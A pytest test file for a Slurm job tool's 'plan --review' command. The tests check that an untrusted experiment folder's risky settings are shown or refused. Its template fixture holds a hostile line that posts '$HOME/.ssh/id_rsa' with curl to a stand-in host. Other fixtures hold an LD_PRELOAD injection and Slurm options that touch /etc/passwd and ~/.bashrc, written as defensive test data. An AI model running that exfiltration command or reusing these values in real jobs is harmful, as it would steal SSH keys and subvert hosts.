"""`plan` and `plan --review` of a file from a stranger: nothing that it could touch is left out."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.made import PIN
from tests.typed import Type, typed_in
from tfslurm.image import lock_text
from tfslurm.spec import KEYS
from tfslurm.spec.model import Experiment

TEMPLATE = (
    '{% extends "job.sbatch.j2" %}\n{% block prologue %}curl -d @$HOME/.ssh/id_rsa http://x\x1b[2J{% endblock %}\n'
)
EXPERIMENT = """\
name: gift
image: tensorflow/tensorflow:2.16.1-gpu
command: [bash, -c, 'python t.py "$1"; env', bash, "{{ a }}"]
code: {path: ., writable: true}
outputs: /out
mounts: [{source: /data/alice, target: /data, read_only: false}]
env: {LR: "{{ a }}", LD_PRELOAD: /workspace/x.so}
secrets: [AWS_SECRET_ACCESS_KEY, WANDB_API_KEY]
network: host
template: t.sbatch.j2
slurm: {mail-user: eve@example.org, nodelist: n1}
checkpoint: {signal: USR1, before_end: 60}
clusters: [alpha]
"""


@pytest.fixture
def plan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Type:
    """`tfslurm plan exp.yaml …` of a stranger's folder: what it holds is written here."""
    config, folder = tmp_path / "config", tmp_path / "gift"
    for path in (config / "tfslurm" / "clusters", folder):
        path.mkdir(parents=True)
    (config / "tfslurm" / "clusters" / "alpha.yaml").write_text(
        "name: alpha\nroot: /scratch/alice\nmounts: {allow: [/data]}\nmirrors: {docker.io: [mirror.example]}\n"
    )
    for name, text in {"t.sbatch.j2": TEMPLATE, "exp.yaml": EXPERIMENT, "t.py": "1", ".env": "x"}.items():
        (folder / name).write_text(text)
    (folder / "exp.lock.yaml").write_text(lock_text(replace(PIN, entrypoint=("/entry.sh", "go"))))
    environment = {"HOME": tmp_path, "XDG_CONFIG_HOME": config, "XDG_DATA_HOME": tmp_path / "data"}
    return partial(typed_in(folder, environment, monkeypatch, capsys), "plan", "exp.yaml")


def has_all(text: str, parts: Sequence[str]) -> bool:
    missing = [part for part in parts if part not in text]
    assert not missing, text
    return True


SWEEP = ("--set", "a=1,2")
ONE = ("--set", "a=1")


@pytest.mark.slow
@pytest.mark.parametrize("sets", [ONE, SWEEP], ids=["one job", "a sweep"])
def test_plan_hides_nothing_that_matters(plan: Type, tmp_path: Path, sets: Sequence[str]) -> None:
    done = plan(*sets)
    assert done.returncode == 0, done.stderr
    told = ["secrets  AWS_SECRET_ACCESS_KEY WANDB_API_KEY", "network  host", "LD_PRELOAD='/workspace/x.so'"]
    told += ["template t.sbatch.j2: code that runs on the node as you, OUTSIDE the container"]
    assert has_all(done.stdout, [*told, f"folder   {tmp_path / 'gift'}"])
    if sets == ONE:
        assert "files that look private are part of it: .env" in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("sets", [ONE, SWEEP], ids=["one job", "a sweep"])
def test_review_shows_all_that_the_file_could_touch(plan: Type, tmp_path: Path, sets: Sequence[str]) -> None:
    done = plan("--review", *sets)
    assert done.returncode == 0, done.stderr
    warned = ["template: t.sbatch.j2 is code that runs on the node as you, OUTSIDE the container; read all of it"]
    warned += ["AWS_SECRET_ACCESS_KEY is a credential of other services", "the program gets your WANDB_API_KEY"]
    warned += ["files that look private are sent: .env", "the program can change /data/alice", "LD_PRELOAD says what"]
    warned += ["puts this before the command: /entry.sh go", "network: host:", "slurm: mail-user: Slurm sends mail"]
    assert sets == ONE or 'sweep    grid: {"a": ["1", "2"]}' in done.stdout, done.stdout
    assert has_all(done.stdout, [f"LOOK AT  {line}" if line[:8] in ("template",) else line for line in warned])
    told = [
        PIN.digest,
        "mirror.example",
        "docker.io/",
        "'/entry.sh'",
        "'python t.py \"$1\"; env'",
        "run as a program: ",
    ]
    told += ["LR='1'" if sets == ONE else "LR='{{ a }}'", "/data/alice -> /data (RW)", "looks private: .env"]
    told += [f"{tmp_path / 'gift'}: 5 files", "--mail-user=eve@example.org", "signal: USR1", "outputs  /out"]
    told += [
        "   2 | {% block prologue %}curl -d @$HOME/.ssh/id_rsa http://x\\x1b[2J{% endblock %}",
        "CUDA_VERSION='12.3.0'",
    ]
    assert has_all(done.stdout, told)
    assert "\x1b" not in done.stdout


@pytest.mark.slow
def test_the_same_as_json(plan: Type) -> None:
    found: list[dict[str, Any]] = json.loads(plan("--review", "--json", *ONE).stdout)
    assert found[0]["template"] == {"name": "t.sbatch.j2", "text": TEMPLATE}
    assert found[0]["secrets"] == ["AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY"]
    assert found[0]["program_texts"] == ['python t.py "$1"; env']
    assert found[0]["code"]["private_looking"] == [".env"]
    assert found[0]["code"]["is_beside_file"] is True
    assert found[0]["image"]["entrypoint"] == ["/entry.sh", "go"]


@pytest.mark.slow
def test_a_folder_that_did_not_come_with_the_file_is_named(plan: Type, tmp_path: Path) -> None:
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "a.py").write_text("1")
    for words in (ONE, SWEEP, (*ONE, "--review"), (*SWEEP, "--review")):
        (tmp_path / "gift" / "exp.yaml").write_text(EXPERIMENT.replace("path: .,", "path: ../own,"))
        refused = plan(*words)
        assert refused.returncode == 2
        assert "exp.yaml:4: code: " in refused.stderr and "--set code=../own" in refused.stderr
        assert plan(*words, "--set", "code=../own").returncode == 0
    done = plan("--review", *ONE, "--set", "code=../own")
    assert f"LOOK AT  code: {tmp_path / 'own'} did not come with the file" in done.stdout


OUTSIDE = [
    *(
        "bb: x",
        "bbf: /etc/passwd",
        "nodefile: /etc/passwd",
        "nodelist: /etc/passwd",
        "exclude: ./hosts",
        "nodelist: /scratch/a b",
        "error: x",
    ),
    *("output: /home/alice/.bashrc", "input: x", "wrap: id", "export: ALL", "get-user-env: 1", "chdir: /", "uid: 0"),
    *("prolog: x", "task-prolog: ./x", "epilog: x", "task-epilog: x", "bcast: /x", "burst-buffer-file: x", "gid: 0"),
    *("container: /x", "export-file: /x", "open-mode: append", "spank-x: 1"),
]


@pytest.mark.parametrize("option", OUTSIDE)
def test_options_that_run_read_or_write_outside_of_the_container_are_refused(
    plan: Type, tmp_path: Path, option: str
) -> None:
    text = EXPERIMENT.replace("slurm: {mail-user: eve@example.org, nodelist: n1}", f"slurm: {{{option}}}")
    (tmp_path / "gift" / "exp.yaml").write_text(text)
    done = plan(*ONE)
    assert done.returncode == 2
    assert "exp.yaml:11: slurm." in done.stderr
    reads = option.startswith(("bb", "burst-buffer", "nodefile"))
    assert ("would read or run files outside of the container" in done.stderr) == reads


def test_one_look_at_a_time(plan: Type) -> None:
    assert "--script and --review exclude each other" in plan("--review", "--script").stderr


def test_an_image_that_is_pinned_by_its_id_is_told_of(plan: Type, tmp_path: Path) -> None:
    pin = replace(PIN, pin_kind="image-id", digest_kind="config", config_digest=PIN.digest)
    (tmp_path / "gift" / "exp.lock.yaml").write_text(lock_text(pin))
    done = plan("--review", *ONE)
    why = f"the lock file names an image's id on the node; nothing says that it is {PIN.reference}"
    assert f"LOOK AT  image: {why}" in done.stdout


FORGED = "x\nsecrets  none\ntemplate built in"


@pytest.mark.slow
@pytest.mark.parametrize("words", [ONE, SWEEP, (*ONE, "--review"), (*SWEEP, "--review")], ids=" ".join)
def test_no_text_of_a_file_makes_a_line_or_a_word_of_its_own(plan: Type, tmp_path: Path, words: Sequence[str]) -> None:
    gift = tmp_path / "gift"
    (gift / FORGED).mkdir()
    (gift / FORGED / "a.py").write_text("1")
    (gift / "src").symlink_to(FORGED)
    mount = "{source: '/data/alice', target: '/d (ro), /data/x -> /y', read_only: false}"
    text = EXPERIMENT.replace("path: .,", "path: src,").replace("outputs: /out", "outputs: '/out -> /x'")
    text = text.replace("{source: /data/alice, target: /data, read_only: false}", mount)
    (gift / "exp.yaml").write_text(text.replace("nodelist: n1", "extra: 'a --account=b'"))
    done = plan(*words)
    assert done.returncode == 0, done.stderr
    heads = [line[:9] for line in done.stdout.splitlines()]
    assert heads.count("secrets  ") == 1 and heads.count("template ") == 1
    assert "secrets  none" not in done.stdout.splitlines()
    rows = {line[:9].strip(): line[9:] for line in done.stdout.splitlines()}
    assert rows["mounts"].lower() == "/data/alice -> '/d (ro), /data/x -> /y' (rw)"
    assert "--extra='a --account=b'" in done.stdout


@pytest.mark.slow
def test_every_key_of_the_file_is_in_the_review(plan: Type, tmp_path: Path) -> None:
    more = 'gpu_check: "off"\nprepull: true\nresources: {gpus: 2, cpus: 3, memory: 5G, time: "07:00:00", shm: 9G}\n'
    more += "parameters: {seed: 7}\nreproduce: {metric: loss, tolerance: 0.5}\n"
    (tmp_path / "gift" / "exp.yaml").write_text(EXPERIMENT + more)
    found = plan("--review", "--json", *ONE)
    assert {*Experiment.model_fields} - {"name"} == {*KEYS} - {"name"} <= {*json.loads(found.stdout)[0]}
    shown = plan("--review", *ONE).stdout
    told = ["LOOK AT  gpu_check: off", "gpu_check off", "prepull True", "gpus 2", "cpus 3", "memory_mib 5120"]
    assert has_all(shown, [*told, "time_s 25200", "shm_mib 9216", "values   seed=7", "compared metric: loss"])


@pytest.mark.slow
def test_a_sweep_is_shown_with_what_it_runs_and_may_change(plan: Type) -> None:
    shown = plan(*SWEEP).stdout
    told = [
        "command  /entry.sh go bash -c 'python t.py \"$1\"; env' bash '{{ a }}'",
        "mounts   /data/alice -> /data (rw)",
    ]
    assert has_all(shown, [*told, "sbatch   --mail-user=eve@example.org --nodelist=n1"])
